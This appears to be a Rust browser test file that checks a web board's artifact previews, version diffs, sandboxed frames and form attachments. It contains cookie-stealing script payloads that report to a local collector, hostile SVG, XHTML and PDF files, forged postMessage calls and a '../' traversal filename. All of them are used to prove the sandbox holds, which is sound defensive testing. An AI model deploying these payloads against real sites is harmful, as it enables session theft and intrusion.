//! Artifacts in a real browser: previews, versions, the sandbox, what tries to get out of it, files attached by a form.

use board_tests::{Browser, Engine, FakeDaemon, Fixture, browser::Scripts, hostile_site::Collector, wait::eventually};
use serde_json::{Value, json};

use super::{Artifacts, Thing, noise, working};
use crate::attacks::page_watch::PageWatch;

/// Tries everything that a page of the Board could do, and tells whoever listens.
fn hostile(collector: &str) -> String {
    format!(
        "<script>
          const tell = what => {{ new Image().src = 'http://{collector}/pwn?' + what; }};
          try {{ tell('cookie=' + document.cookie) }} catch (e) {{}}
          try {{ localStorage.setItem('pwn', '1'); tell('storage') }} catch (e) {{}}
          try {{ fetch('/api/v1/vibers').then(r => tell('fetch' + r.status)) }} catch (e) {{}}
          try {{ top.location = 'http://{collector}/pwn-top' }} catch (e) {{}}
          try {{ parent.postMessage({{ type: 'pwn', action: 'stop' }}, '*'); parent.pwned = true }} catch (e) {{}}
          pwn(1)
        </script><img src=\"http://{collector}/pwn-image\" onerror=\"pwn(2)\"><form action=\"http://{collector}/pwn-form\"><button autofocus></form>
        <meta http-equiv=refresh content=\"0;url=http://{collector}/pwn-refresh\"><link rel=stylesheet href=\"http://{collector}/pwn.css\">
        <p id=inside>Inside the sandbox</p>"
    )
}

async fn given(fixture: &mut Fixture<FakeDaemon>, owner: &board_tests::Person, thing: &Thing) {
    let path = format!("/api/v1/artifacts/{}/content", thing.id);
    let reading = tokio::spawn({
        let request = owner.request(reqwest::Method::GET, &path).header("x-team", "home");
        super::read(request)
    });
    fixture.gives(thing).await;
    assert!(reading.await.expect("read").whole);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a72_pages_and_pictures_opened_by_their_address_can_do_nothing() {
    let mut fixture = working(Engine::Sqlite).await;
    let owner = fixture.board.owner().await;
    let collector = Collector::start([127, 0, 0, 2]).await;
    let far = collector.address.to_string();
    let page = hostile(&far);
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>pwn(3)</script><image href=\"http://{far}/pwn-svg\"/><foreignObject>{page}</foreignObject></svg>"
    );
    let xhtml = format!(
        "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body onload=\"pwn(4)\"><script src=\"http://{far}/pwn.js\"/></body></html>"
    );
    let pdf =
        format!("%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://{far}/pwn-pdf)>>>>endobj\n{page}");
    let mut things = Vec::new();
    for (name, bytes) in [
        ("page.html", page),
        ("picture.svg", svg),
        ("page.xhtml", xhtml),
        ("data.xml", "<?xml version=\"1.0\"?><a onload=\"pwn(5)\"/>".into()),
        ("paper.pdf", pdf),
    ] {
        let thing = fixture.has(name, bytes.into_bytes()).await;
        given(&mut fixture, &owner, &thing).await;
        things.push((name, thing));
    }
    let watch = PageWatch::open(&fixture.board, &owner, &far).await;
    for (name, thing) in &things {
        for form in ["sandbox", "view", "download"] {
            let path = format!("/t/home/artifacts/{}/{form}", thing.id);
            let answer = owner.page(&path).await;
            if answer.status == 404 {
                continue;
            }
            assert_eq!(answer.header("x-content-type-options"), "nosniff", "{name} {form}");
            assert!(answer.header("content-security-policy").contains("default-src 'none'"), "{name} {form}");
            if form == "download" {
                assert!(answer.header("content-disposition").starts_with("attachment"));
                continue;
            }
            watch.browser.go(&format!("{}{path}", fixture.board.url)).await;
            let here = watch.browser.page.current_url().await.expect("an address").to_string();
            assert!(here.starts_with(&fixture.board.url), "{name} {form}: led away to {here}");
            // An opaque origin has no storage and no cookies; a type that is no page has no document of ours.
            if form == "sandbox" {
                let origin = watch.run("return self.origin").await;
                assert!(origin == "null" || origin == Value::Null, "{name}: {origin}");
                assert_ne!(watch.run("return window.pwned === true").await, true, "{name}");
            }
        }
        watch.go(&format!("/t/home/artifacts/{}", thing.id)).await;
        watch.browser.find("#preview").await;
    }
    assert_eq!(collector.heard(), Vec::<String>::new());
    fixture.board.assert_invariants().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a74_a_preview_is_a_frame_without_an_origin_that_nobody_listens_to() {
    let mut fixture = working(Engine::Sqlite).await;
    let owner = fixture.board.owner().await;
    let collector = Collector::start([127, 0, 0, 2]).await;
    let far = collector.address.to_string();
    let thing = fixture.has("page.html", hostile(&far).into_bytes()).await;
    given(&mut fixture, &owner, &thing).await;
    let watch = PageWatch::open(&fixture.board, &owner, &far).await;
    let path = format!("/t/home/artifacts/{}", thing.id);
    watch.go(&path).await;
    let frame = watch.browser.find("iframe.preview-frame").await;
    assert_eq!(frame.attr("sandbox").await.expect("readable").as_deref(), Some(""));
    // It cannot be reached from here either, and what it would say is heard by nobody.
    watch.until("the frame is there", "return document.querySelector('iframe').contentDocument === null").await;
    let forged = "window.postMessage({ type: 'pwn', action: 'stop', htmx: true }, '*');
        const frame = document.querySelector('iframe');
        frame.dispatchEvent(new MessageEvent('message', { data: { path: '/logout' } }));
        return [location.pathname, window.pwned === undefined]";
    assert_eq!(watch.run(forged).await, json!([path, true]));
    assert_eq!(fixture.operator.task(fixture.task().as_str()).await["state"], "running");
    assert_eq!(collector.heard(), Vec::<String>::new());
    fixture.board.assert_invariants().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn somebody_looks_at_artifacts_compares_versions_and_downloads_when_the_viber_is_away() {
    let mut fixture = working(Engine::Sqlite).await;
    let owner = fixture.board.owner().await;
    let one = fixture
        .announces(
            "report",
            b"# Plan\n\n- first\n- **second**\n".to_vec(),
            json!({ "type": "text/markdown", "sniffed": "text/plain", "title": "The report" }),
        )
        .await;
    let two = fixture
        .announces(
            "report",
            b"# Plan\n\n- first\n- **third**\n".to_vec(),
            json!({ "type": "text/markdown", "sniffed": "text/plain", "title": "The report" }),
        )
        .await;
    let table = fixture.has("numbers.csv", b"name,value\nx,1\n".to_vec()).await;
    let log = fixture.has("build.log", b"\x1b[31mfailed\x1b[0m <b>\n".to_vec()).await;
    let image = fixture.has("dot.png", base64_png()).await;
    let binary = fixture.has("data.bin", noise(100)).await;
    let never = fixture.has("never.txt", b"never opened".to_vec()).await;
    for thing in [&one, &two, &table, &log, &image, &binary] {
        given(&mut fixture, &owner, thing).await;
    }
    fixture.viber.cut();
    eventually("the viber is away", async || (fixture.facts(&never).await["state"] == "offline").then_some(())).await;

    for scripts in [Scripts::On, Scripts::Off] {
        let browser = Browser::open(scripts).await;
        browser.sign_in(&owner).await;
        let at = |path: &str| format!("{}{path}", fixture.board.url);
        browser.go(&at(&format!("/t/home/sessions/{}?pane=artifacts", fixture.session()))).await;
        browser.sees(&format!("#artifacts [data-artifact='{}']", two.id), "2 versions").await;
        browser.sees(&format!("#artifacts [data-artifact='{}']", never.id), "viber offline").await;
        browser.click(&format!("#artifacts [data-artifact='{}'] a", two.id)).await;
        browser.sees("#preview", "third").await;
        assert!(browser.has("#preview strong").await);
        browser.go(&at(&format!("/t/home/artifacts/{}?with={}", two.id, one.id))).await;
        browser.sees("#diff .add", "third").await;
        browser.sees("#diff .del", "second").await;
        browser.go(&at(&format!("/t/home/artifacts/{}", table.id))).await;
        browser.sees("#preview th", "name").await;
        browser.go(&at(&format!("/t/home/artifacts/{}", log.id))).await;
        browser.sees("#preview .ansi-red", "failed").await;
        browser.go(&at(&format!("/t/home/artifacts/{}", binary.id))).await;
        browser.sees("#preview", "no preview").await;
        browser.go(&at(&format!("/t/home/artifacts/{}", never.id))).await;
        browser.sees("#preview", "offline").await;
        browser.go(&at(&format!("/t/home/artifacts/{}", image.id))).await;
        browser.find("#preview img").await;
        if scripts == Scripts::On {
            let shown = async || {
                let width =
                    browser.run("return document.querySelector('#preview img').naturalWidth", Value::Null).await;
                (width == 1).then_some(())
            };
            eventually("the picture is shown", shown).await;
            assert_eq!(browser.console_errors().await, Vec::<String>::new());
        }
    }
    let download = owner.page(&format!("/t/home/artifacts/{}/download", one.id)).await.expect(200);
    assert_eq!(download.body, "# Plan\n\n- first\n- **second**\n");
    assert_eq!(owner.page(&format!("/t/home/artifacts/{}/download", never.id)).await.status, 503);
    fixture.board.assert_invariants().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_are_attached_by_a_form_and_taken_back() {
    let fixture = working(Engine::Sqlite).await;
    let owner = fixture.board.owner().await;
    let page = format!("/t/home/sessions/{}", fixture.session());
    let form = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\nContent-Type: text/csv\r\n\r\nx,y\r\n\
                --b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../b.txt\"\r\n\r\n\r\n--b--\r\n";
    let send = |body: &'static str| {
        let request = owner.request(reqwest::Method::POST, &format!("{page}/attachments"));
        owner.send(request.header("content-type", "multipart/form-data; boundary=b").body(body))
    };
    send(form).await.expect(303);
    let shown = owner.page(&format!("{page}?pane=artifacts")).await.expect(200).body;
    assert!(
        shown.contains("a.csv") && shown.contains("b.txt") && shown.contains("goes with your next message"),
        "{shown}"
    );
    send("--b--\r\n").await.expect(422);
    send("--b\r\nContent-Disposition: form-data; name=\"other\"\r\n\r\nx\r\n--b--\r\n").await.expect(400);
    let all = fixture.operator.get(&format!("/api/v1/sessions/{}/artifacts", fixture.session())).await.json();
    let first = all["items"][0]["id"].as_str().expect("an id");
    owner.post_form(&format!("/t/home/artifacts/{first}/withdraw"), &[]).await.expect(303);
    let all = fixture.operator.get(&format!("/api/v1/sessions/{}/artifacts", fixture.session())).await.json();
    assert_eq!(all["items"].as_array().map(Vec::len), Some(1), "{all}");
    fixture.board.assert_invariants().await;
}

/// One red pixel.
fn base64_png() -> Vec<u8> {
    use base64::Engine as _;
    let text = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
    base64::engine::general_purpose::STANDARD.decode(text).expect("base64")
}
